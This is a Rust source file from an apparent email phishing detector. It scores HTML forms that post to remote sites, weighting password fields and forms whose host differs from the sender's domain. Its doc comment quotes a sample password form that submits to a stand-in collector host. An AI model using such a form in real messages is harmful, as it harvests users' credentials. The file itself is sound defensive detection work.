//! # What
//! A form in the mail that sends what the reader types to a web site.
//! # Why
//! Mail programs warn of forms, so hardly any honest mail has one; one with a
//! password field has no honest use.
//! # Example
//! `<form action="https://collector.example/in.php"><input type="password">`
//! # Source
//! J-CSIP 2019 Q1, chapter 6.

use vocab::Spot;

use super::scene::{Scene, found, site};
use crate::sign::{Sign, SignKey};

pub(super) fn check(scene: &Scene<'_>, signs: &mut Vec<Sign>) {
    for page in scene.subject.pages {
        let remote = page.forms.iter().find_map(|form| Some((form, observable::url(form)?)));
        if let Some((form, url)) = remote {
            let from = scene.from.as_ref().map(|from| from.site().to_owned());
            let own = from.as_deref() == Some(site(url.host()));
            let strength = match (page.password_field, own) {
                (true, _) => 1.2,
                (false, false) => 0.5,
                (false, true) => 0.2,
            };
            found(signs, Sign::new(SignKey::RemoteForm, strength, Spot::Html, &[form]));
            return;
        }
    }
}
